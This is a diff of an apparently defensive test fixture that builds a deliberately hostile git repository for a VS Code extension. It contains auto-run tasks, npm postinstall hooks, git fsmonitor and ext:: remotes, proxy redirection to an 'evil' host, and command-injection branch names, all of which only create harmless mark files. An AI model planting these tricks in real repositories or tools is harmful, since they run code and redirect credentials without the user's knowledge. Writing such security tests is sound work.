@@ -1,13 +1,13 @@
-// Creates a repository that is as hostile as possible: it tries to redirect requests, to run
-// programs and to read files. Whatever runs leaves a mark.
+// Creates a malicious git repository that tries to redirect requests, run programs and read files.
+// A program that runs creates a mark, an empty file, so that a test detects it.
 import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { GitRepository } from './gitRepository.ts';
 import { root } from './setup/paths.mjs';
 
 /**
- * The file that is created, in the current folder, by what runs through the name of a branch or a file. It has no
- * leading dot, because no part of a branch name may start with one.
+ * The name of the mark that the name of a branch or a file creates, in the current folder, if a shell runs the name. The
+ * mark has no leading dot, because no part of a branch name may start with a dot.
  */
 const MARK = 'marked';
 
@@ -19,11 +19,8 @@ interface Manifest {
   };
 }
 
-/**
- * Settings of VS Code and of its git extension that would redirect requests or run a program if they were read from a
- * folder.
- */
-function foreignSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
+/** Settings of VS Code that redirect requests or run a program if VS Code reads them from a folder. */
+function vscodeSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
   return {
     'http.proxy': evil,
     'http.proxyStrictSSL': false,
@@ -42,34 +39,34 @@ function foreignSettings(evil: string, program: string, shell = program): Readon
 }
 
 /**
- * Returns a hostile value for every setting of Contrail that is not a choice between fixed values, for some settings
- * that it does not have, and for settings of VS Code and other extensions.
+ * Returns malicious values for all settings of Contrail that are not an enum, for some settings that Contrail does not
+ * have, and for settings of VS Code.
  */
 export function hostileSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
   const { contributes }: Manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
-  const free = contributes.configuration
+  const settings = contributes.configuration
     .flatMap(({ properties }) => Object.entries(properties))
     .filter(([, setting]) => setting.enum === undefined);
-  const ours = free.map(([id, { type }]): [string, unknown] => [id, type === 'boolean' ? true : evil]);
-  const made = ['server', 'baseUrl', 'url', 'apiKey', 'token', 'proxy', 'ca'].map((name): [string, unknown] => [
+  const existing = settings.map(([id, { type }]): [string, unknown] => [id, type === 'boolean' ? true : evil]);
+  const invented = ['server', 'baseUrl', 'url', 'apiKey', 'token', 'proxy', 'ca'].map((name): [string, unknown] => [
     `contrail.${name}`,
     evil,
   ]);
-  return { ...Object.fromEntries([...ours, ...made]), ...foreignSettings(evil, program, shell) };
+  return { ...Object.fromEntries([...existing, ...invented]), ...vscodeSettings(evil, program, shell) };
 }
 
 export interface HostileOptions {
-  /** Origin of a server that the repository tries to redirect requests to. */
+  /** The origin of the server to which the repository tries to redirect requests. */
   readonly evil: string;
-  /** A folder outside of the repository in which everything that runs creates an empty file. */
+  /** A folder outside of the repository in which each program that runs creates its mark. */
   readonly marks: string;
-  /** Text in files that must not be read: in `.env`, and in a folder that symbolic links lead to. */
+  /** A text in the files that Contrail must not read: `.env`, and a file that a symbolic link points to. */
   readonly secret: string;
-  /** An identifier that the text mentions. */
+  /** The identifier of a work item, which the files mention. */
   readonly identifier: string;
 }
 
-/** Creates the repository in the folder, which may contain files already. */
+/** Creates the repository in a folder, which may contain files. */
 export function makeHostileRepository(
   folder: string,
   { evil, marks, secret, identifier }: HostileOptions,
@@ -78,23 +75,23 @@ export function makeHostileRepository(
   const mark = (name: string): string => join(marks, name);
   const program = writeProgram(marks, 'program');
   const shell = writeProgram(marks, 'vscode-shell');
-  const made = GitRepository.empty(folder);
-  made.write('.vscode/settings.json', JSON.stringify(hostileSettings(evil, program, shell)));
-  writePrograms(made, evil, program, mark);
-  writeText(made, { evil, marks, secret, identifier });
+  const repository = GitRepository.empty(folder);
+  repository.write('.vscode/settings.json', JSON.stringify(hostileSettings(evil, program, shell)));
+  writePrograms(repository, evil, program, mark);
+  writeText(repository, { evil, marks, secret, identifier });
   writeLinks(folder, join(marks, '..', 'outside'), secret, identifier);
-  made.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${mark('message')})`);
-  writeConfiguration(made, mark);
-  writeBranches(made, identifier);
-  return made;
+  repository.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${mark('message')})`);
+  writeConfiguration(repository, mark);
+  writeBranches(repository, identifier);
+  return repository;
 }
 
-/** Returns the names of what has run, from the folder of marks and from the repository itself. */
+/** Returns the names of all marks, in the folder of marks and in the repository. */
 export function marksIn(marks: string, repository: string): string[] {
   return [...readdirSync(marks), ...readdirSync(repository).filter((name) => name === MARK)].sort();
 }
 
-/** Writes a program that leaves a mark, and returns its path. */
+/** Writes a shell script that creates a mark, and returns the path of the script. */
 function writeProgram(marks: string, name: string): string {
   const file = join(marks, '..', `${name}.sh`);
   writeFileSync(file, `#!/bin/sh\ntouch '${join(marks, name)}'\n`);
@@ -102,36 +99,33 @@ function writeProgram(marks: string, name: string): string {
   return file;
 }
 
-/**
- * Writes configuration files of tools that run something. VS Code itself runs the tasks, in its terminal, once the
- * folder is trusted.
- */
-function writePrograms(made: GitRepository, evil: string, program: string, mark: (name: string) => string): void {
+/** Writes configuration files that make tools run programs. VS Code runs the tasks when the user trusts the folder. */
+function writePrograms(repository: GitRepository, evil: string, program: string, mark: (name: string) => string): void {
   const shell = (name: string) => ({
     label: name,
     type: 'shell',
     command: `touch '${mark(`vscode-${name}`)}'`,
     runOptions: { runOn: 'folderOpen' },
   });
-  made.write(
+  repository.write(
     '.vscode/tasks.json',
     JSON.stringify({ version: '2.0.0', tasks: [shell('task'), { ...shell('build'), group: 'build' }] }),
   );
-  made.write(
+  repository.write(
     '.vscode/launch.json',
     JSON.stringify({
       configurations: [{ type: 'node', request: 'launch', name: 'go', program, preLaunchTask: 'task' }],
     }),
   );
-  made.write('.vscode/extensions.json', JSON.stringify({ recommendations: ['evil.evil'] }));
-  made.write('package.json', JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }));
-  made.write('.npmrc', `registry=${evil}/\nproxy=${evil}\nscript-shell=${program}\n`);
-  made.write('.gitattributes', '*.md filter=evil diff=evil\n');
-  made.write('.editorconfig', 'root = true\n');
+  repository.write('.vscode/extensions.json', JSON.stringify({ recommendations: ['evil.evil'] }));
+  repository.write('package.json', JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }));
+  repository.write('.npmrc', `registry=${evil}/\nproxy=${evil}\nscript-shell=${program}\n`);
+  repository.write('.gitattributes', '*.md filter=evil diff=evil\n');
+  repository.write('.editorconfig', 'root = true\n');
 }
 
-function writeText(made: GitRepository, { evil, marks, secret, identifier }: HostileOptions): void {
-  made.write(
+function writeText(repository: GitRepository, { evil, marks, secret, identifier }: HostileOptions): void {
+  repository.write(
     '.env',
     `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${evil}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
   );
@@ -157,11 +151,11 @@ function writeText(made: GitRepository, { evil, marks, secret, identifier }: Hos
     'right\u202eto-left.md',
     '%2e%2e%2f.md',
   ]) {
-    made.write(name, text);
+    repository.write(name, text);
   }
 }
 
-/** Writes symbolic links to files and folders outside, to system files, and in a cycle. */
+/** Writes symbolic links to files outside of the repository, to system files, and to the folder itself (a cycle). */
 function writeLinks(folder: string, outside: string, secret: string, identifier: string): void {
   mkdirSync(outside, { recursive: true });
   writeFileSync(join(outside, 'outside.md'), `${identifier} ${secret}\n`);
@@ -177,19 +171,16 @@ function writeLinks(folder: string, outside: string, secret: string, identifier:
   }
 }
 
-/**
- * Writes configuration that makes git itself run programs. VS Code's git extension does not use it until the folder is
- * trusted.
- */
-function writeConfiguration(made: GitRepository, mark: (name: string) => string): void {
+/** Configures git to run programs. VS Code's git extension ignores the repository until the user trusts the folder. */
+function writeConfiguration(repository: GitRepository, mark: (name: string) => string): void {
   const touch = (name: string): string => `touch '${mark(`git-${name}`)}'`;
-  made.remote('origin', `ext::sh -c touch% ${mark('remote')}`);
-  made.remote('other', `https://mara:token@evil.example/$(touch\${IFS}${mark('url')}).git`);
-  made.run('config', 'core.fsmonitor', `${touch('fsmonitor')}; false`);
-  made.run('config', 'core.sshCommand', touch('ssh'));
-  made.run('config', 'filter.evil.smudge', `${touch('filter')}; cat`);
-  made.run('config', 'protocol.ext.allow', 'always');
-  const hooks = join(made.folder, '.git', 'hooks');
+  repository.remote('origin', `ext::sh -c touch% ${mark('remote')}`);
+  repository.remote('other', `https://mara:token@evil.example/$(touch\${IFS}${mark('url')}).git`);
+  repository.run('config', 'core.fsmonitor', `${touch('fsmonitor')}; false`);
+  repository.run('config', 'core.sshCommand', touch('ssh'));
+  repository.run('config', 'filter.evil.smudge', `${touch('filter')}; cat`);
+  repository.run('config', 'protocol.ext.allow', 'always');
+  const hooks = join(repository.folder, '.git', 'hooks');
   mkdirSync(hooks, { recursive: true });
   for (const hook of ['post-checkout', 'pre-commit', 'post-index-change', 'reference-transaction']) {
     writeFileSync(join(hooks, hook), `#!/bin/sh\n${touch(hook)}\n`);
@@ -198,10 +189,10 @@ function writeConfiguration(made: GitRepository, mark: (name: string) => string)
 }
 
 /**
- * Writes branches whose names git allows and a shell, a command line or a page could interpret as something else. The
- * first one is checked out.
+ * Writes branches with names that git accepts, but that a shell or a page may interpret as code or markup, or git as an
+ * option. The first branch is checked out.
  */
-function writeBranches(made: GitRepository, identifier: string): void {
+function writeBranches(repository: GitRepository, identifier: string): void {
   const touch = `touch\${IFS}${MARK}`;
   const names = [
     `${identifier}-$(${touch})`,
@@ -215,12 +206,12 @@ function writeBranches(made: GitRepository, identifier: string): void {
     `${identifier}&${touch}`,
     `${identifier.replace('W', 'Ш')}-пр\u0430во`,
   ];
-  const head = made.head;
-  // Writes the ref files directly, because git would run the hooks that exist by now.
+  const head = repository.head;
+  // Writes the ref files directly, because git would run the hooks that `writeConfiguration` has written.
   for (const name of names) {
-    const file = join(made.folder, '.git', 'refs', 'heads', ...name.split('/'));
+    const file = join(repository.folder, '.git', 'refs', 'heads', ...name.split('/'));
     mkdirSync(join(file, '..'), { recursive: true });
     writeFileSync(file, `${head}\n`);
   }
-  writeFileSync(join(made.folder, '.git', 'HEAD'), `ref: refs/heads/${names[0] ?? ''}\n`);
+  writeFileSync(join(repository.folder, '.git', 'HEAD'), `ref: refs/heads/${names[0] ?? ''}\n`);
 }
